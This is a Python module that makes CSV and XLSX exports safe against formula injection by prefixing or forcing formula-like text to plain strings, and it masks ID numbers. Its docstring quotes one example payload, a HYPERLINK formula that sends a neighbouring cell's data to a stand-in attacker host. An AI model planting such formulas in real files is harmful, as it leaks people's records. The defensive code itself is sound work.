"""CSV and XLSX files that are safe to open: the one cell writer every export goes through.

A spreadsheet reads a cell that starts with = + - @ (or a tab or carriage return, or the
full-width ＝＋－＠ that Chinese input methods type, also after leading spaces) as a formula:
a volunteer who joins as `=HYPERLINK("http://evil.example?"&A2, "点击")` would otherwise be a
live link in the organiser's records export, carrying the row beside it. OWASP's advice
(CSV Injection) is followed here:

- CSV: such text gets a leading apostrophe, which spreadsheets show as text and hide;
- XLSX: every text is an explicit string cell (openpyxl would make `"=..."` a formula), and
  formula-like text also gets the "quote prefix" style, so that editing the cell in Excel
  keeps it text. The value itself is unchanged: it reads back exactly as typed.

Numbers stay numbers, in both.
"""

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import date, time
from numbers import Number

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

# Values a spreadsheet keeps as themselves (numbers, dates); everything else is text.
NATIVE = (Number, date, time)

# What a spreadsheet takes for the start of a formula (or a DDE command): ASCII and
# full-width forms. Tab and CR count on their own too (OWASP).
FORMULA_STARTS = frozenset("=+-@＝＋－＠")
CONTROL_STARTS = ("\t", "\r", "\n")


def formula_like(value) -> bool:
    """True when a spreadsheet could read this text as a formula."""
    if not isinstance(value, str) or not value:
        return False
    if value.startswith(CONTROL_STARTS):
        return True
    stripped = value.lstrip()
    return bool(stripped) and stripped[0] in FORMULA_STARTS


def csv_cell(value):
    """A value as it goes into a CSV cell: formula-like text behind an apostrophe."""
    if value is None:
        return ""
    if isinstance(value, Number):
        return value
    text = str(value)
    return "'" + text if formula_like(text) else text


def to_csv(header: Sequence, rows: Iterable[Sequence]) -> bytes:
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow([csv_cell(str(c)) for c in header])
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])
    # utf-8 with BOM: Excel on a duty-desk PC opens Chinese text correctly only then.
    return buf.getvalue().encode("utf-8-sig")


def _put(sheet, row: int, column: int, value):
    cell = sheet.cell(row=row, column=column)
    if value is None or value == "":
        return cell
    if isinstance(value, NATIVE):
        cell.value = value
        return cell
    # Control characters (a bell typed into the public join form) are not allowed in the
    # file's XML: openpyxl refuses the whole sheet. They carry nothing a reader needs.
    text = ILLEGAL_CHARACTERS_RE.sub("", str(value))
    cell.value = text
    # Set after the value: openpyxl's own guess makes "=..." a formula ('f').
    cell.data_type = "s"
    if formula_like(text):
        cell.quotePrefix = True
    return cell


def to_xlsx(
    header: Sequence, rows: Iterable[Sequence], title: str, widths: Sequence[int] = ()
) -> bytes:
    """One sheet: a bold, frozen header row, then the rows; text always as text."""
    book = Workbook()
    sheet = book.active
    # Excel refuses sheet names over 31 characters or with : \ / ? * [ ]
    sheet.title = "".join(ch for ch in str(title) if ch not in ":\\/?*[]")[:31] or "Sheet"
    bold = Font(bold=True)
    for column, label in enumerate(header, start=1):
        _put(sheet, 1, column, str(label)).font = bold
    for number, row in enumerate(rows, start=2):
        for column, value in enumerate(row, start=1):
            _put(sheet, number, column, value)
    for column, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(column)].width = width
    sheet.freeze_panes = "A2"
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def mask_id_number(number: str | None) -> str:
    """1101**********1234: enough to tell records apart, not the birth date or the whole
    number (PIPL). At most a quarter of the characters show at each end, never more than 4."""
    if not number:
        return ""
    text = str(number)
    keep = min(4, len(text) // 4)
    if keep == 0:
        return "*" * len(text)
    return text[:keep] + "*" * (len(text) - 2 * keep) + text[-keep:]
